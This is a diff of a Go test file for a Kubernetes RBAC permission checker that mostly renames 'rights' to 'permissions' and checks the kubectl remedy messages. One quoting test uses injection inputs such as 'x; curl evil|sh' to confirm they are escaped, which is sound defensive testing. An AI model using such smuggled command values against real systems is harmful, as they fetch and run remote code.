@@ -13,14 +13,15 @@ import (
 	manifests "github.com/gardener/machine-controller-manager-provider-kubevirt/kubernetes"
 )
 
-// TestRightsAreTheShippedOnes compares the checked permissions with the granted ones, part by part.
-func TestRightsAreTheShippedOnes(t *testing.T) {
+// TestPermissionsAreTheShippedOnes compares the checked permissions with the granted ones, part by
+// part.
+func TestPermissionsAreTheShippedOnes(t *testing.T) {
 	t.Parallel()
 
 	asked := func(parts ...part) map[string]bool {
 		set := map[string]bool{}
 
-		for _, r := range rights() {
+		for _, r := range permissions() {
 			for _, p := range parts {
 				if r.part == p {
 					addTo(set, []string{r.group}, []string{r.resource}, r.verbs)
@@ -82,20 +83,20 @@ func TestSubjectFlag(t *testing.T) {
 	require.Equal(t, "--user=jane", (&identity{user: "jane"}).subjectFlag())
 	require.Equal(t, "--user='x; curl evil|sh'", (&identity{user: "x; curl evil|sh"}).subjectFlag())
 	require.Equal(t, "--serviceaccount='a:b'\\''; rm'", (&identity{user: "system:serviceaccount:a:b'; rm"}).subjectFlag())
-	require.Equal(t, "--user=NAME", (&identity{}).subjectFlag(), "the server has not said who it is")
+	require.Equal(t, "--user=NAME", (&identity{}).subjectFlag(), "the user name is unknown")
 }
 
-// TestMissingRightsAreOneResultPerRole lacks all permissions, as before the Role is applied.
-func TestMissingRightsAreOneResultPerRole(t *testing.T) {
+// TestMissingPermissionsAreOneResultPerRole lacks all permissions, as before the Role is applied.
+func TestMissingPermissionsAreOneResultPerRole(t *testing.T) {
 	t.Parallel()
 
-	var missing []missingRight
-	for _, r := range rights() {
-		missing = append(missing, missingRight{right: r, verbs: r.verbs})
+	var missing []missingPermission
+	for _, r := range permissions() {
+		missing = append(missing, missingPermission{permission: r, verbs: r.verbs})
 	}
 
-	s := &site{namespace: "shoot-machines", driver: &identity{name: Driver, user: "system:serviceaccount:shoot-machines:machine-controller"}}
-	got := s.withoutRights(missing)
+	c := &checker{namespace: "shoot-machines", driver: &identity{name: Driver, user: "system:serviceaccount:shoot-machines:machine-controller"}}
+	got := c.reportMissing(missing)
 	require.Len(t, got, 2)
 	require.Equal(t, Error, got[0].Level)
 	require.True(t, strings.HasPrefix(got[0].Remedy, "kubectl apply -k kubernetes/provider-namespace"), got[0].Remedy)
@@ -103,12 +104,12 @@ func TestMissingRightsAreOneResultPerRole(t *testing.T) {
 	require.Contains(t, got[1].Remedy, "kubectl apply -k kubernetes/evacuation/provider-namespace")
 	require.NotContains(t, got[0].Remedy+got[1].Remedy, "rolebinding", "the shipped ones fit")
 
-	s.namespace, s.driver.user = "others", "jane"
+	c.namespace, c.driver.user = "others", "jane"
 	require.Equal(t, "set namespace: others in kubernetes/provider-namespace/kustomization.yaml and run: kubectl apply -k kubernetes/provider-namespace"+
-		" && kubectl --namespace others create rolebinding machine-controller-driver --role=machine-controller --user=jane", s.grant(roles[machines]))
+		" && kubectl --namespace others create rolebinding machine-controller-driver --role=machine-controller --user=jane", c.grant(roles[machines]))
 
-	optional := s.withoutRights([]missingRight{{right: right{part: diagnosis, resource: "pods"}, verbs: []string{"list"}}})
-	require.Equal(t, Warning, optional[0].Level, "machines are made without it")
+	optional := c.reportMissing([]missingPermission{{permission: permission{part: diagnosis, resource: "pods"}, verbs: []string{"list"}}})
+	require.Equal(t, Warning, optional[0].Level, "machines can be created without it")
 }
 
 func TestRenewal(t *testing.T) {
